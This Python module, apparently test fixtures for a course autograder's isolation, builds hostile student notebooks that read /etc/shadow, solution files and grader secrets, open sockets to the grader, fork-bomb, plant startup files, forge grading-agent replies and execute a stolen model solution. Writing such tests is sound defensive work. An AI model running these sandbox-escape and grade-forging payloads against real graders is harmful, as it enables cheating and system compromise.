"""Hostile and broken LAB·1.1 submissions, built from the student notebook (course_tools.demo.filled_in), each
with the score and the reason the grader should give it on both paths (`course grade`, `nbgrader autograde`).
Used by tests/test_grader_isolation.py. One case per class of attack of issue 11, plus the broken inputs;
build_33() adds issue 33's classes (tests/test_configurations.py grades both through every configuration).

Most attacks start from the untouched stub (0/6): a forged pass would show as points. The few that start from
the solution check that the hostile part costs what it should and nothing more.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from course_tools.demo import filled_in
from autograder.course_manifest import REPO_ROOT, manifest

LAB = "lab-1.1-first-kernels"
LAB_1_2 = "lab-1.2-tiled-matmul"
NAME = f"{LAB}.ipynb"
ADD_CALL = "    return pl.pallas_call(\n        add_kernel,"
SECRET_ENV = "COURSE_TEST_GRADER_SECRET"  # set in the grader's environment by the test
MARKER = "course-hostile-sleeper"  # in the command line of processes a notebook leaves behind

HANG_IN_KERNEL = '''
def add_kernel(x_ref, y_ref, o_ref):   # a kernel that never finishes: no interrupt reaches it
    forever = jax.lax.while_loop(lambda c: c >= 0, lambda c: (c + 1) % 7, x_ref[0, 0].astype(jnp.int32) * 0)
    o_ref[...] = x_ref[...] + y_ref[...] + forever.astype(o_ref.dtype) * 0
'''
# Everything a notebook might read, list or write outside its jail; each line printed ALLOWED or denied.
PROBE = f'''
import os, pathlib, glob
repo = pathlib.Path({str(REPO_ROOT)!r})
def probe(what, act):
    try:
        got = act()
        print(("ALLOWED" if got else "denied"), what, repr(got)[:200] if got else "(nothing there)")
    except Exception as e:
        print("denied", what, type(e).__name__)
probe("read solutions", lambda: (repo / "solutions" / "stage-1" / {NAME!r}).read_text())
probe("read key", lambda: (repo / "autograder" / "keys" / "tokamax_reading.yml").read_text())
probe("import checks", lambda: __import__("autograder.labs.lab_1_1"))
probe("read gradebook", lambda: (repo / "gradebook.db").read_bytes())
probe("read rubrics", lambda: [l for l in (repo / "course.yml").read_text().splitlines() if l.strip().startswith('- "1:')])
probe("list repo beyond the binds", lambda: sorted(set(os.listdir(repo)) - {{"course.yml", "pallas_course", ".venv"}}))
probe("list /root beyond Python", lambda: sorted(set(os.listdir("/root")) - {{".pyenv"}}))
probe("read shadow", lambda: open("/etc/shadow").read())
probe("grader env", lambda: os.environ[{SECRET_ENV!r}])
probe("host processes", lambda: [p for p in os.listdir("/proc") if p.isdigit() and int(p) > 3] or None)
probe("host sockets", lambda: [l for l in open("/proc/net/unix").read().splitlines()[1:] if "/" in l or "@" in l] or None)
probe("write repo", lambda: (repo / "autograder" / "pwned.py").write_text("x"))
probe("write var tmp", lambda: pathlib.Path("/var/tmp/course-hostile-pwned").write_text("x"))
print("uid", os.getuid())
'''
# Reach the grader or anything else over the network or a socket: the test listens on PORT and SOCKET.
NETWORK = '''
import socket, os
def probe(what, act):
    try:
        act()
        print("ALLOWED", what)
    except Exception as e:
        print("denied", what, type(e).__name__)
def tcp():
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"forged")
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"forged", ("127.0.0.1", PORT))
    s.sendto(b"forged", ("10.0.2.2", PORT))
def unix():
    s = socket.socket(socket.AF_UNIX)
    s.connect(SOCKET)
def forkserver():   # what `--jobs 2` workers listen on: abstract or pathname sockets in /proc/net/unix
    names = [l.split()[-1] for l in open("/proc/net/unix").read().splitlines()[1:] if len(l.split()) > 7]
    for name in names:
        s = socket.socket(socket.AF_UNIX)
        s.connect(("\\0" + name[1:]) if name.startswith("@") else name)
    raise OSError(f"{len(names)} sockets")
probe("tcp to the grader", tcp)
probe("udp out", udp)
probe("unix socket", unix)
probe("worker sockets", forkserver)
'''
# Reshape the checks from inside: none of this reaches them, since they run outside the jail.
REWRITE_TESTS = '''
ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\\n" if "lab_1_1" in l else l for l in lines])
import ast
class Forge(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(None)
ip.ast_transformers.append(Forge())
def clear(result):
    result.error_in_exec = None
ip.events.register("post_run_cell", clear)
try:
    import autograder.labs.lab_1_1 as lab
    lab.ADD_SHAPES.clear(); lab.TRANSPOSE_CASES.clear()
except ImportError as e:
    print("no checks here:", e)
'''
# The jail's agent patched to answer for `add` with the description of a real pallas_call (right shapes, no
# grid, the lab's BlockSpec) whose kernel writes zeros, plus numpy's answer: the grader rebuilds and runs the
# kernel described, so the zeros are what it grades (issue 21's first forgery).
FORGE_RIGHT = '''
import numpy as np
import jail_agent.calls as calls
real_invoke = calls.invoke
def zeros(x, y):
    return pl.pallas_call(lambda a, b, o: o.__setitem__(Ellipsis, jnp.zeros_like(o)),
                          out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype), interpret=INTERP)(x, y)
def numpy_answer(args):
    try:
        return np.asarray(args[0], np.float32) + np.asarray(args[1], np.float32)
    except Exception:
        return None
def forged(fn, args, kwargs, **options):
    if getattr(fn, "__name__", "") != "add":
        return real_invoke(fn, args, kwargs, **options)
    claim = real_invoke(zeros, args, kwargs, **options)
    return {**claim, "result": numpy_answer(args), "structure": {"pallas_calls": [], "outside": []}}
calls.invoke = forged
def add(x, y):
    return x + y
'''
# The agent patched to answer in the old protocol: a claimed structure and values, no description.
FORGE_WRONG = '''
import gc
def call(self, req, blobs):
    self.reply({"ok": True, "structure": {"pallas_calls": [{"name": "add_kernel", "grid": []}], "outside": []},
                "result": {"__opaque__": "ndarray"}})
for agent_class in {type(o) for o in gc.get_objects() if type(o).__name__ == "Agent" and hasattr(o, "reply")}:
    agent_class.call = call
'''
# A pallas_call writing zeros, then a primitive of the notebook's own *named* "reshape" that computes the answer
# in numpy (issue 21's second forgery): the grader binds its own reshape, which does not take three operands.
FAKE_RESHAPE = '''
import numpy as np
from jax.extend.core import Primitive
fake = Primitive("reshape")
fake.def_impl(lambda z, x, y, **params: np.asarray(x) + np.asarray(y))
fake.def_abstract_eval(lambda z, x, y, **params: z)
def add(x, y):
    z = pl.pallas_call(lambda a, b, o: o.__setitem__(Ellipsis, jnp.zeros_like(o)),
                       out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype), interpret=INTERP)(x, y)
    return fake.bind(z, x, y, new_sizes=x.shape, dimensions=None, sharding=None)
'''
# More of the same family: a primitive named "pallas_call" (cannot even be described), one named "transpose"
# that the grader replaces with its own (right values, but XLA: no pallas_call), one named "copy" whose numpy
# answer the grader never runs.
FAKE_PRIMITIVES = '''
import numpy as np
from jax.extend.core import Primitive
def numpy_primitive(name, impl, shape):
    p = Primitive(name)
    p.def_impl(lambda *a, **params: impl(*[np.asarray(v) for v in a]))
    p.def_abstract_eval(lambda *a, **params: jax.core.ShapedArray(shape(*a), a[0].dtype))
    return p
fake_call = numpy_primitive("pallas_call", lambda x, y: x + y, lambda x, y: x.shape)
fake_transpose = numpy_primitive("transpose", lambda x: x.T, lambda x: x.shape[::-1])
fake_copy = numpy_primitive("copy", lambda z, x, y: x + y, lambda z, x, y: z.shape)
def add(x, y):
    if x.dtype == jnp.float32:
        return fake_call.bind(x, y)
    z = pl.pallas_call(lambda a, b, o: o.__setitem__(Ellipsis, jnp.zeros_like(o)),
                       out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype), interpret=INTERP)(x, y)
    return fake_copy.bind(z, x, y)
def transpose(x, bm=128, bn=128):
    return fake_transpose.bind(x, permutation=(1, 0))
'''
# Descriptions forged by a patched agent: a grid of 10^10 steps for add in f32, a primitive no lab allows for add
# in bf16, and an output index map sending every step of a tiled transpose to block (0, 0).
FORGE_DESCRIPTIONS = '''
import copy
import jail_agent.calls as calls
real_invoke = calls.invoke
def zeros(x, *rest):
    return pl.pallas_call(lambda a, *refs: refs[-1].__setitem__(Ellipsis, jnp.zeros_like(refs[-1])),
                          out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype), interpret=INTERP)(x, *rest)
def tiled_copy(x, bm=128, bn=128):
    m, n = x.shape
    return pl.pallas_call(lambda a, o: o.__setitem__(Ellipsis, a[...].T), grid=(m // bm, n // bn),
                          in_specs=[pl.BlockSpec((bm, bn), lambda i, j: (i, j))],
                          out_specs=pl.BlockSpec((bn, bm), lambda i, j: (j, i)),
                          out_shape=jax.ShapeDtypeStruct((n, m), x.dtype), interpret=INTERP)(x)
def forged(fn, args, kwargs, **options):
    name = getattr(fn, "__name__", "")
    if name not in ("add", "transpose"):
        return real_invoke(fn, args, kwargs, **options)
    claim = real_invoke(zeros if name == "add" else tiled_copy, args, kwargs, **options)
    eqns = claim["description"]["jaxpr"]["eqns"]
    call = next(e for e in eqns if e["p"] == "pallas_call")
    if name == "add" and str(args[0].dtype) == "float32":
        call["params"]["grid"] = [100000, 100000]
    elif name == "add":
        eqns.append({"p": "numpy_add", "in": [{"v": 0}, {"v": 1}], "out": [eqns[-1]["out"][0]], "params": {}})
        claim["description"]["jaxpr"]["out"] = [{"v": 2 + len(eqns) - 1}]
    else:
        out_map = call["params"]["blocks"][-1]["index_map"]
        out_map["out"] = [{"lit": 0, "aval": {"shape": [], "dtype": "int32", "weak": False}}] * 2
    return claim
calls.invoke = forged
def add(x, y):
    return x + y
def transpose(x, bm=128, bn=128):
    return x.T
'''
# A pallas_call when traced, XLA when called: the grader runs the traced computation, so XLA never answers.
TWO_FACED = '''
def add(x, y):
    if isinstance(x, jax.core.Tracer):
        return pl.pallas_call(lambda a, b, o: o.__setitem__(Ellipsis, jnp.zeros_like(o)),
                              out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype), interpret=INTERP)(x, y)
    return x + y
'''
ARRAY_OBJECT = '''
class Expected:
    """An output that would hand back whatever it is compared with."""
    shape, dtype = (256, 256), np.float32
    def __array__(self, dtype=None, copy=None):
        import inspect
        for f in inspect.stack():
            for v in f.frame.f_locals.values():
                if isinstance(v, np.ndarray) and v.shape == self.shape:
                    return v
        return np.zeros(self.shape, np.float32)
import numpy as np
def add(x, y):
    return Expected()
'''
GARBLE_PROTOCOL = '''
import os
for fd in range(3, 12):
    try:
        os.write(fd, b"\\xff" * 64 + b"{not a frame")
    except OSError:
        pass
'''
PROCESSES = f'''
import os, subprocess, time
# a sleeper in a session of its own, meant to outlive the grading
subprocess.Popen(["/bin/sh", "-c", "exec -a {MARKER} sleep 600"], start_new_session=True)
# a bounded fork bomb: stops at the jail's process limit
kids = 0
try:
    for _ in range(5000):
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        kids += 1
except OSError as e:
    print("fork refused after", kids, type(e).__name__)
'''
STARTUP_FILE = '''
import os, pathlib
for base in (os.environ.get("IPYTHONDIR", ""), os.path.expanduser("~/.ipython"), "/tmp/home/.ipython"):
    if not base:
        continue
    p = pathlib.Path(base) / "profile_default" / "startup" / "00-forge.py"
    try:
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("def add(x, y):\\n    return x + y\\n")
        print("planted", p)
    except OSError as e:
        print("could not plant", p, type(e).__name__)
'''
HUGE_OUTPUT = '''
import sys
for _ in range(300):
    sys.stdout.write("x" * 1_000_000)
raise ValueError("y" * 50_000_000)
'''


@dataclass(frozen=True)
class Hostile:
    student: str
    score: float
    reason: str  # a regex the submission's error, or one of its test messages, must match
    what: str


def _with_cell(nb: NotebookNode, source: str, *, after: str = "setup", before: str | None = None) -> NotebookNode:
    """`nb` with a cell added after the cell `after` (or just before the cell `before`), by grade id."""
    nb = copy.deepcopy(nb)
    ids = [c.get("metadata", {}).get("nbgrader", {}).get("grade_id") for c in nb.cells]
    index = ids.index(before) if before else ids.index(after) + 1
    nb.cells.insert(index, nbformat.v4.new_code_cell(source))
    return nb


def _without(nb: NotebookNode, *grade_ids: str) -> NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells = [c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") not in grade_ids]
    return nb


def _tag_tests(nb: NotebookNode, tag: str) -> NotebookNode:
    nb = copy.deepcopy(nb)
    ids = {t.id for t in manifest().lab(LAB).tests}
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") in ids:
            cell.metadata.setdefault("tags", []).append(tag)
    return nb


def _without_checks(nb: NotebookNode) -> NotebookNode:
    """The notebook less its visible `check(...)` cells: graded under a 10 s per-cell limit (a case that hangs),
    its right answers then cost the grader's requests only, far under the limit whatever the machine's load."""
    nb = copy.deepcopy(nb)
    nb.cells = [
        c
        for c in nb.cells
        if not (c.cell_type == "code" and "check(" in c.source and not c.get("metadata", {}).get("nbgrader"))
    ]
    return nb


def _stub() -> NotebookNode:
    return nbformat.read(REPO_ROOT / manifest().lab(LAB).notebook, as_version=4)


def build(
    root: Path | None, *, port: int = 9, socket_path: str = "/nonexistent", repo: Path = REPO_ROOT
) -> list[Hostile]:
    """Write every hostile submission under `root/<student>/<stage>/` (None: write nothing); return what each
    should get. `port` and `socket_path`: where the test listens for connections that must never come; `repo`:
    the grader's checkout the probes read (another one's: a grader installed elsewhere, tests/test_platforms.py)."""
    stage = manifest().stage.id
    probe = PROBE.replace(repr(str(REPO_ROOT)), repr(str(repo)))
    solution = filled_in(LAB)
    stub = _stub()
    network = NETWORK.replace("PORT", str(port)).replace("SOCKET", repr(socket_path))
    cases: list[tuple[Hostile, NotebookNode | bytes]] = [
        (Hostile("ok-solution", 6, "^passed$", "the solution, graded beside the hostile ones"), solution),
        (
            Hostile("hang-in-kernel", 0, "did not stop when interrupted", "an infinite loop inside the Pallas kernel"),
            _with_cell(solution, HANG_IN_KERNEL, after="add_kernel"),
        ),
        (
            Hostile("hang-in-cell", 6, "^passed$", "`while True: pass` in a cell: interrupted, the rest runs"),
            _with_cell(_without_checks(solution), "while True:\n    pass"),
        ),
        (
            Hostile("crash-exit", 3, r"kernel exited \(exit 3\)", "os._exit(3) when transpose runs"),
            filled_in(LAB, {"transpose": ("    m, n = x.shape\n", "    m, n = x.shape\n    import os; os._exit(3)\n")}),
        ),
        (
            Hostile("crash-segfault", 0, "SIGSEGV", "a segfault (ctypes.string_at(0)) in a cell"),
            _with_cell(solution, "import ctypes\nctypes.string_at(0)"),
        ),
        (
            Hostile("memory-blowup", 0, "memory", "a cell fills 6 GB (shared memory included in the limit)"),
            # One syscall faults in all 6 GB (MAP_POPULATE): the cell's interrupt waits for it to return, so the memory
            # limit fires whatever the load (filled page by page from Python, a loaded machine hit the 10 s cell
            # limit before 2 GB and scored 6/6)
            _with_cell(
                solution,
                "import mmap\nm = mmap.mmap(-1, 6 << 30, "
                "flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)",
            ),
        ),
        (
            Hostile("corrupt-truncated", 0, "could not read the notebook", "the .ipynb cut in half"),
            nbformat.writes(solution).encode()[:4000],
        ),
        (Hostile("corrupt-binary", 0, "could not read the notebook", "not JSON at all"), bytes(range(256)) * 8),
        (
            Hostile("other-lab", 0, r"holds the cells of LAB·1\.2", "LAB·1.2's notebook under LAB·1.1's name"),
            filled_in(LAB_1_2),
        ),
        (
            Hostile(
                "deleted-cells",
                1,
                "name 'transpose' is not defined",
                "transpose and a hidden test deleted (add_f32 comes back where nbgrader puts it: before add)",
            ),
            _without(solution, "transpose", "add_f32"),
        ),
        (
            Hostile("renamed", 3, "name 'add' is not defined", "add renamed my_add"),
            filled_in(LAB, {"add_kernel": ("def add_kernel", "def add_kernel_renamed")}),
        ),
        (Hostile("xla-bypass", 3, "launches no pallas_call", "add computes x + y with XLA"), filled_in(LAB, {})),
        (
            Hostile(
                "probe-outside",
                0,
                "not implemented yet",
                "reads solutions/, the key, the grader's environment, other processes; writes the repository",
            ),
            _with_cell(stub, probe),
        ),
        (
            Hostile(
                "network",
                0,
                "not implemented yet",
                "TCP and UDP to the grader's host, a UNIX socket, the workers' sockets",
            ),
            _with_cell(stub, network),
        ),
        (
            Hostile(
                "rewrite-tests",
                0,
                "not implemented yet|launches no pallas_call",
                "input and AST transformers that rewrite the test "
                "cells, a post_run_cell hook that clears errors, the checks' case lists emptied",
            ),
            _with_cell(stub, REWRITE_TESTS),
        ),
        (
            Hostile("skip-execution", 0, "not implemented yet", "the test cells tagged skip-execution"),
            _tag_tests(stub, "skip-execution"),
        ),
        (
            Hostile(
                "forge-right-values",
                0,
                "differ by more than",
                "the agent patched to describe a pallas_call "
                "whose kernel writes zeros, and to send numpy's answer and a structure of its own beside it",
            ),
            _with_cell(stub, FORGE_RIGHT, before="add_f32"),
        ),
        (
            Hostile(
                "forge-wrong-values",
                0,
                "could not rebuild",
                "the agent patched to answer in the old protocol: a claimed structure and values, no description",
            ),
            _with_cell(stub, FORGE_WRONG, before="add_f32"),
        ),
        (
            Hostile(
                "fake-reshape",
                0,
                "could not rebuild",
                "a zeros kernel, then a primitive of its own named \"reshape\" computing the answer in numpy",
            ),
            _with_cell(stub, FAKE_RESHAPE, before="add_f32"),
        ),
        (
            Hostile(
                "fake-primitives",
                0,
                "launches no pallas_call",
                "primitives of its own named \"pallas_call\", \"copy\" and \"transpose\" computing in numpy",
            ),
            _with_cell(
                _with_cell(stub, FAKE_PRIMITIVES, before="add_f32"), FAKE_PRIMITIVES, before="transpose_schedule"
            ),
        ),
        (
            Hostile(
                "forge-descriptions",
                0,
                "over the grader's (limit|budget)",
                "the agent patched to send a forged grid, "
                "a made-up primitive and an output index map that sends every step to block (0, 0)",
            ),
            _with_cell(stub, FORGE_DESCRIPTIONS, before="add_f32"),
        ),
        (
            Hostile("two-faced", 0, "differ by more than", "a pallas_call when traced, XLA when called"),
            _with_cell(stub, TWO_FACED, before="add_f32"),
        ),
        (
            Hostile(
                "array-object",
                0,
                "while being traced",
                "returns an object whose __array__ would hand back the checker's expected array",
            ),
            _with_cell(stub, ARRAY_OBJECT, before="add_f32"),
        ),
        (
            Hostile("garble-protocol", 0, "malformed|stopped", "writes junk into the agent's pipes"),
            _with_cell(stub, GARBLE_PROTOCOL),
        ),
        (
            Hostile(
                "processes",
                0,
                "not implemented yet|kernel died",
                "a fork bomb (it may take its own notebook "
                "down: XLA cannot start threads past the process limit) and a sleeper in a new session",
            ),
            _with_cell(stub, PROCESSES),
        ),
        (
            Hostile("startup-file", 0, "not implemented yet", "plants an IPython startup file defining add"),
            _with_cell(stub, STARTUP_FILE),
        ),
        (
            Hostile("zz-stub-after-startup", 0, "not implemented yet", "graded after startup-file: its plant is gone"),
            stub,
        ),
        (
            Hostile("huge-output", 0, "not implemented yet", "300 MB of prints and a 50 MB exception message"),
            _with_cell(stub, HUGE_OUTPUT),
        ),
    ]
    out = []
    for hostile, nb in cases:
        out.append(hostile)
        if root is None:
            continue
        path = root / hostile.student / stage / NAME
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(nb, bytes):
            path.write_bytes(nb)
        else:
            nbformat.write(_fix(hostile.student, nb), path)
    return out


def _fix(student: str, nb: NotebookNode) -> NotebookNode:
    """Edits `filled_in` cannot express (they span cells)."""
    nb = copy.deepcopy(nb)
    for cell in nb.cells:
        if student == "renamed" and "def add(x, y):" in cell.source:
            cell.source = cell.source.replace("def add(x, y):", "def my_add(x, y):").replace(
                "add_kernel,", "add_kernel_renamed,"
            )
        if student == "xla-bypass" and ADD_CALL in cell.source:
            cell.source = cell.source.replace(ADD_CALL, "    return x + y\n" + ADD_CALL)
    return nb


# ------------------------------------------------------------------------- issue 33's classes (build_33)

# Plants what the old orphan sweep of the jail without namespaces read as an instruction: a folder named after
# uid 0 holding a dead grader's "record" (it then ran `kill -KILL -1` as root: the grader died, no results).
TMP_RECORD = '''
import os, pathlib
for name in ("course-jail-uid-0", "course-jail-uid-61000", "course-judge-1-0-x"):
    d = pathlib.Path("/tmp") / name
    try:
        d.mkdir(exist_ok=True)
        (d / "grader").write_text("1 0 0\\n")
        print("planted", d)
    except OSError as e:
        print("could not plant", d, type(e).__name__)
'''
# Finds the grader's checkout (where it was told, and up from its own Python) and takes the model solution from
# solutions/ or from .git (`git show`: git writes its objects readable by all), then runs its code: a leak
# scores 6/6, none leaves the stub's 0.
READ_CHECKOUT = '''
import json, os, pathlib, subprocess, sys
want = "solutions/stage-1/lab-1.1-first-kernels.ipynb"
roots = [pathlib.Path(REPO)] + list(pathlib.Path(sys.executable).resolve().parents)
text, how = None, "nothing"
for root in roots:
    try:
        text, how = (root / want).read_text(), f"read {root / want}"
    except OSError:
        try:
            got = subprocess.run(["git", "-c", "safe.directory=*", "-C", str(root), "show", f"HEAD:{want}"],
                                 capture_output=True, text=True, timeout=30)
            if got.returncode == 0 and got.stdout:
                text, how = got.stdout, f"git show in {root}"
        except (OSError, subprocess.SubprocessError):
            pass
    if text:
        break
print("LEAK:", how)
if text:
    for cell in json.loads(text)["cells"]:
        src = "".join(cell["source"])
        if cell["cell_type"] == "code" and ("def add" in src or "def transpose" in src):
            exec(src, globals())
'''
# Leaves 120 busy processes in sessions of their own (each for 20 s: the corpus stays affordable): the next
# submission's jail (started ahead, beside this one) must still start, and its student be graded as if alone.
SPINNERS = '''
import subprocess
for _ in range(120):
    try:
        subprocess.Popen(["/usr/bin/timeout", "20", "/bin/sh", "-c", "while :; do :; done"], start_new_session=True)
    except OSError as e:
        print("stopped at", type(e).__name__)
        break
'''
# An honest notebook that keeps a 1 GiB array it never touches: reserved, not used.
RESERVE_1GIB = '''
import numpy as np
untouched = np.empty(1 << 28, np.float32)   # 1 GiB of address space; no page of it is ever written
'''

# A right add whose f32 kernel carries a dead branch libtpu takes minutes to compile (cut at the compile's limit):
# it cost the *next* student's add_bf16 when the judge's one compile thread and its cache outlived a submission.
STALLING_ADD = """def add(x, y):
    from jax.experimental.pallas import tpu as pltpu
    def kernel(x_ref, y_ref, o_ref, s_ref):
        o_ref[...] = x_ref[...] + y_ref[...]
        @pl.when(pl.program_id(0) < 0)
        def _():
            for _ in range(2):
                s_ref[...] = jnp.sin(s_ref[...]) * s_ref[...] + 1.0
    if x.dtype != jnp.float32:
        return pl.pallas_call(add_kernel, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype), interpret=INTERP)(x, y)
    return pl.pallas_call(kernel, grid=(1,), out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype), interpret=INTERP,
                          in_specs=[pl.BlockSpec(x.shape, lambda i: (0, 0))] * 2,
                          out_specs=pl.BlockSpec(x.shape, lambda i: (0, 0)),
                          scratch_shapes=[pltpu.VMEM((4096, 4096), jnp.float32)],
                          compiler_params=pltpu.CompilerParams(vmem_limit_bytes=100 * 2**20))(x, y) * 1
"""
# A right transpose whose dead branch (a 4096^3 matmul) stalls libtpu: over the FLOPs budget, refused before any
# compile (tests/test_judge_box.py lifts the budgets to see the stall cut by the notebook's deadline).
STALLING_TRANSPOSE = '''from jax.experimental.pallas import tpu as pltpu


def transpose(x, bm=128, bn=128):   # right, with a dead branch libtpu takes minutes on (stalling_add's)
    def kernel(x_ref, o_ref, s_ref):
        o_ref[...] = x_ref[...].T

        @pl.when(pl.program_id(0) < 0)
        def _():
            s_ref[...] = s_ref[...] * 2.0 + 1.0
            s_ref[...] = jnp.sin(s_ref[...]) @ s_ref[...]
    m, n = x.shape
    return pl.pallas_call(kernel, grid=(m // bm, n // bn), out_shape=jax.ShapeDtypeStruct((n, m), x.dtype),
                          in_specs=[pl.BlockSpec((bm, bn), lambda i, j: (i, j))],
                          out_specs=pl.BlockSpec((bn, bm), lambda i, j: (j, i)),
                          scratch_shapes=[pltpu.VMEM((4096, 4096), jnp.float32)],
                          compiler_params=pltpu.CompilerParams(vmem_limit_bytes=100 * 2**20), interpret=INTERP)(x)
'''
# The right body on the CPU (where interpret mode runs), zeros on the TPU the compiler lowers for: graded as the
# zeros kernel it is on a TPU (tests/test_forged_names.py has it in-process).
PLATFORM_ADD = """
def add_kernel(x_ref, y_ref, o_ref):
    jax.lax.platform_dependent(
        cpu=lambda: o_ref.__setitem__(..., x_ref[...] + y_ref[...]),
        default=lambda: o_ref.__setitem__(..., jnp.zeros(o_ref.shape, o_ref.dtype)))
"""
PLATFORM_TRANSPOSE = """
def transpose_kernel(x_ref, o_ref):
    jax.lax.platform_dependent(
        cpu=lambda: o_ref.__setitem__(..., x_ref[...].T),
        default=lambda: o_ref.__setitem__(..., jnp.zeros(o_ref.shape, o_ref.dtype)))
"""
# A right add whose one pallas_call also returns four 4000 x 4096 f32 arrays (262 MB, written by the kernel: nothing
# computed outside it, no constant): over the 64 MB the grader holds of one notebook's results at once.
EXTRA_ARRAYS = """
def add_and_zeros(x_ref, y_ref, o_ref, *extra_refs):
    o_ref[...] = x_ref[...] + y_ref[...]
    for e_ref in extra_refs:
        e_ref[...] = jnp.zeros(e_ref.shape, e_ref.dtype)
def add(x, y):
    whole, strip = pl.BlockSpec(x.shape, lambda i: (0, 0)), pl.BlockSpec((16, 4096), lambda i: (i, 0))
    return tuple(pl.pallas_call(
        add_and_zeros, grid=(250,), in_specs=[whole, whole], out_specs=[whole] + [strip] * 4, interpret=INTERP,
        out_shape=[jax.ShapeDtypeStruct(x.shape, x.dtype)] + [jax.ShapeDtypeStruct((4000, 4096), jnp.float32)] * 4,
    )(x, y))
"""
# A right add whose index maps compute a 2048^2 matmul from an iota at every grid step (times 0): the kernel's body
# shows nothing of it; the budgets walk the index maps.
INDEX_MAP_MATMUL = """
from jax import lax
def add(x, y):
    def index(i):
        a = lax.broadcasted_iota(jnp.float32, (2048, 2048), 0)
        return (i + (a @ a)[0, 0].astype(jnp.int32) * 0, 0)
    spec = pl.BlockSpec((8, x.shape[1]), index)
    return pl.pallas_call(add_kernel, grid=(x.shape[0] // 8,), in_specs=[spec, spec], out_specs=spec,
                          out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype), interpret=INTERP)(x, y)
"""

# Issue 43: add written with explicit copies (LAB·1.6's pltpu.make_async_copy, x, y and the output left in HBM), each
# with a copy that would not end or not stay in bounds. BODY is the kernel's copy-in; the rest is a right add.
COPIES_ADD = """
def add_copies_kernel(x_hbm, y_hbm, o_hbm, x_buf, y_buf, o_buf, sem):
    i = pl.program_id(0)
    window = pl.ds(i * 8, 8)
BODY
    o_buf[...] = x_buf[...] + y_buf[...]
    out = pltpu.make_async_copy(o_buf, o_hbm.at[window], sem.at[2])
    out.start()
    out.wait()
def add(x, y):
    hbm = pl.BlockSpec(memory_space=pl.ANY)
    return pl.pallas_call(add_copies_kernel, grid=(x.shape[0] // 8,), in_specs=[hbm, hbm], out_specs=hbm,
                          out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype), interpret=INTERP,
                          scratch_shapes=[pltpu.VMEM((8, x.shape[1]), x.dtype)] * 3 + [pltpu.SemaphoreType.DMA((3,))],
                          )(x, y)
"""
COPY_IN = """    for src, buf, k in ((x_hbm, x_buf, 0), (y_hbm, y_buf, 1)):
        copy = pltpu.make_async_copy(src.at[WINDOW], buf, sem.at[k])
        copy.start()
        copy.wait()
"""
# a wait no copy signals: in TPU interpret mode it never returns (jax 0.10.2), on a TPU neither
WAIT_NEVER_SIGNALLED = COPIES_ADD.replace(
    "BODY",
    "    pltpu.make_async_copy(x_hbm.at[window], x_buf, sem.at[0]).wait()\n" + COPY_IN.replace("WINDOW", "window"),
)
# every step's window 4 rows past its block: the last one reads past the end of x
COPY_OUT_OF_BOUNDS = COPIES_ADD.replace("BODY", COPY_IN.replace("WINDOW", "pl.ds(i * 8 + 4, 8)"))
# the copy-in 1,024 times a step, in a loop: a copy loop (within the budget on loop trips, over the one on copies)
COPY_LOOP = COPIES_ADD.replace(
    "BODY",
    "    def again(k, carry):\n"
    + "\n".join("    " + line for line in COPY_IN.replace("WINDOW", "window").splitlines())
    + "\n        return carry\n    jax.lax.fori_loop(0, 1024, again, 0)\n",
)


def build_33(root: Path | None, *, repo: Path = REPO_ROOT) -> list[Hostile]:
    """Issue 33's attacks on the configurations (each followed, in name order, by an honest submission that must
    score as if alone), written under `root/<student>/<stage>/` like build(); `repo`: the checkout the reader
    looks for."""
    stage = manifest().stage.id
    solution = filled_in(LAB)
    stub = _stub()
    cases: list[tuple[Hostile, NotebookNode]] = [
        (
            Hostile("c33-reserve-1gib", 6, "^passed$", "the solution keeping an untouched 1 GiB array"),
            _with_cell(solution, RESERVE_1GIB),
        ),
        (
            Hostile(
                "c33-read-checkout",
                0,
                "not implemented yet",
                "takes the model solution from solutions/ or with "
                "`git show` from the grader's checkout, found from sys.executable, and runs it",
            ),
            _with_cell(stub, READ_CHECKOUT.replace("REPO", repr(str(repo))), before="add_f32"),
        ),
        (
            Hostile("c33-spinners", 0, "not implemented yet", "leaves 120 busy processes in sessions of their own"),
            _with_cell(stub, SPINNERS),
        ),
        (Hostile("c33-spinners-next", 6, "^passed$", "the solution, graded after the spinners"), solution),
        (
            Hostile(
                "c33-tmp-record", 0, "not implemented yet", "plants /tmp/course-jail-uid-0 with a dead grader's record"
            ),
            _with_cell(stub, TMP_RECORD),
        ),
        (Hostile("c33-tmp-record-next", 6, "^passed$", "the solution, graded after the planted record"), solution),
        (
            Hostile(
                "c33-slow-compile",
                4,
                "outside its kernel",
                "add's f32 kernel with a dead branch that keeps libtpu busy past the compile's limit",
            ),
            _with_cell(solution, STALLING_ADD, before="add_f32"),
        ),
        (Hostile("c33-slow-compile-next", 6, "^passed$", "the solution, graded after the slow compile"), solution),
        (
            Hostile(
                "c33-platform-branch",
                1,
                "differ by more than tol",
                "add and transpose kernels right on the CPU, zeros on the TPU (lax.platform_dependent)",
            ),
            _with_cell(
                _with_cell(solution, PLATFORM_ADD, before="add_f32"), PLATFORM_TRANSPOSE, before="transpose_schedule"
            ),
        ),
        (
            Hostile(
                "c33-extra-arrays",
                3,
                "over the 64 MB the grader keeps",
                "add returns four 4000 x 4096 arrays beside its answer",
            ),
